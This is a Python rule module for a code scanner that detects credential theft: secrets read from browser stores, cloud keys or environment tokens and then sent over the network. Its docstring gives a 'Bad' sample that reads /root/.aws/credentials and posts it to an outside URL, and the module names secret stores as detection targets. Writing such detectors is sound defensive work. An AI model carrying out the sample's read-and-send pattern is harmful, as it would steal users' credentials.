"""Secrets are read and leave the machine.

Browser stores (`Login Data`, `Cookies`, `Local State`, `key4.db`), SSH and cloud keys, hub tokens,
`.netrc`, environment variables that hold tokens, what the user types: read on load, and handed to a
request, a chat webhook or a socket. A client that sends a token to the service that it is for is honest.

Bad:

    %0 = name builtins.open
    %1 = const '/root/.aws/credentials'
    %2 = call %0, %1
    %3 = attr %2, read
    %4 = call %3
    %5 = name requests.post
    %6 = const 'https://example.org/in'
    %7 = call %5, %6, data=%4

Good:

    %0 = name os.environ
    %1 = const 'HF_TOKEN'
    %2 = item %0, %1
    %3 = name datasets.load_dataset
    %4 = const 'owner/private'
    %5 = call %3, %4, token=%2
"""

import re
from collections.abc import Iterator

from scanner.facts import Effect, Facts, Flow
from scanner.finding import Behaviour, Finding, Precision, Rule, Severity
from scanner.knowledge import services
from scanner.rules._report import along, finding, together

RULE = Rule(
    id="credential-theft",
    title="Secrets are read and sent away",
    severity=Severity.ERROR,
    precision=Precision.HIGH,
    security_severity=9.5,
    cwe=(506, 522, 200),
    attack=("T1555", "T1552", "T1041"),
    atlas=("AML.T0055", "AML.T0025"),
    specificity=75,
)

SENDS = ("net.send", "net.request", "net.connect", "message.send", "hub.upload")
PICK = "os.environ.__contains__"  # a comparison of variables' names with those of secrets
CLOUDS = frozenset({"cloud-credentials"})
STORES = CLOUDS | {"secret-path"}
TAKES = ("file.read", "file.move", "database.query", "net.request", "net.download")
PLACES = frozenset({"0", "filename", "Filename", "path_or_fileobj", "folder_path", "localpath"})
SECRETS = frozenset({"secret.read", "input.read"})
# How a script logs in to a service: never the data that it sends there.
LOGINS = frozenset({
    "headers", "auth", "token", "use_auth_token", "key", "api_key", "password", "storage_options", "cookies",
    "cert", "self", "user", "credentials", "client_kwargs", "login",
})  # fmt: skip
NAMED = re.compile(r"[(\[]'\w+'")
VERBS = frozenset({"send", "sendall", "sendto", "send_string", "send_json", "send_text", "publish", "emit"})
STORED = frozenset({"Body", "files", "content", "fileobj", "Fileobj"})  # what is kept there, not a login
WHERE = frozenset({"0", "1", "url", "self"})  # a client's methods go where it was made to go
# What a call publishes; whatever else a client of a hub is handed says who asks, and where to.
CONTENT = frozenset({"path_or_fileobj", "folder_path", "operations", "0", "1", "data", "files"})


def check(facts: Facts) -> Iterator[Finding]:
    """A flow from a secret to the network, or a secret store opened beside a way out."""
    found = False
    for flow in facts.flowing(SECRETS, (*SENDS, "gui.show")):
        if flow.effect.kind == "gui.show" and "url" not in flow.effect.indicators:  # no page of a server
            continue
        if flow.effect.script and _logs_in(flow):
            continue
        found = True
        deed = "reads secrets and sends them away"
        yield finding(RULE, flow.effect, deed, Behaviour.CREDENTIAL_THEFT, steps=along(flow))
    picks = [e for e in facts.running("env.read") if e.callee == PICK]
    for flow in facts.flowing({"env.read"}, SENDS) if picks and not found else ():
        if flow.effect.script and (_named(flow) or _addresses(flow) or _authenticates(flow)):
            continue
        found = True
        deed = "picks secrets out of the environment and sends them away"
        steps = tuple(dict.fromkeys((*together(picks[:1]), *along(flow))))
        yield finding(RULE, flow.effect, deed, Behaviour.CREDENTIAL_THEFT, steps=steps)
    ways_out = list(facts.running("net.send", "message.send", "hub.upload"))
    ways_out += [e for e in facts.running("net.request") if len(e.arguments) > 1]
    for effect in facts.running():
        ways = [] if found or not steals(effect) else [w for w in ways_out if _leaves(effect, w)]
        if ways:
            found = True
            deed = "reads secrets and has a way to send them"
            steps = together([effect, ways[-1]])
            yield finding(RULE, ways[-1], deed, Behaviour.CREDENTIAL_THEFT, steps=steps)


def steals(effect: Effect) -> bool:
    """Whether the effect takes from a store of secrets, or is a command that sends one by its path."""
    if effect.callee.startswith("shell.") and effect.kind in SENDS:
        sent = [a for a in effect.arguments if a.name in ("data", "stdin")]
        return any(i.kind in STORES for a in sent for i in a.indicators)
    if effect.kind in ("net.send", "hub.upload"):  # of a file, by its path
        named = [{i.kind for i in a.indicators} for a in effect.arguments if a.name in PLACES]
        return any(kinds & STORES and "url" not in kinds for kinds in named)
    if effect.kind == "secret.read":
        return not effect.script or effect.callee != "os.environ"
    asks = effect.kind in ("net.request", "net.download")
    return effect.kind in TAKES and bool(effect.indicators & (CLOUDS if asks else STORES))


def _leaves(effect: Effect, way: Effect) -> bool:
    """Whether a script that takes this and sends something that way gives away what is not for there.

    A token of a service, read where its client keeps it, is meant to be sent: only to whom is the question.
    """
    if not effect.script or effect == way:
        return True
    secret = " ".join(
        (effect.callee, *(i.text for a in effect.arguments for i in a.indicators if i.kind in STORES))
    )
    return _at_home(secret, way) is False if services.homes(secret) else True


def _logs_in(flow: Flow) -> bool:
    """Whether this is how a script logs in to the service that the secret is for."""
    effect = flow.effect
    if flow.argument in STORED:
        return False
    secret = flow.steps[0].text.removeprefix("reads ") if flow.steps else ""
    home = _at_home(secret, effect)
    return bool(home) if home is not None else _authenticates(flow)


def _named(flow: Flow) -> bool:
    """Whether it is one variable by its name, which is no secret's."""
    return bool(flow.steps and NAMED.search(flow.steps[0].text))


def _addresses(flow: Flow) -> bool:
    """Whether it only says where to send something."""
    verb = flow.effect.callee.rpartition(".")[2]
    return flow.argument == "url" or (flow.argument == "0" and verb not in VERBS)


def _authenticates(flow: Flow) -> bool:
    """A token in a header is how a script logs in."""
    publishes = flow.effect.kind == "hub.upload"
    client = flow.effect.callee.rpartition(".")[2][:1].isupper() and not _texts(flow.effect)
    if client and flow.argument == "0":  # what a client is made with
        return True
    return flow.argument not in CONTENT if publishes else flow.argument in LOGINS


def _at_home(secret: str, effect: Effect) -> bool | None:
    """Whether the call goes to the service that the secret is for, if its URL tells."""
    home = services.at_home(secret, _texts(effect), effect.callee)
    literal = any(a.name in WHERE and a.text[:1] in "'\"" for a in effect.arguments)
    return None if home is False and not literal else home  # functions may have made it another


def _texts(effect: Effect) -> list[str]:
    """The URLs that the call goes to, not those that it sends."""
    kinds = ("url", "url-raw-ip", "out-of-band-host")
    return [i.text for a in effect.arguments if a.name in WHERE for i in a.indicators if i.kind in kinds]
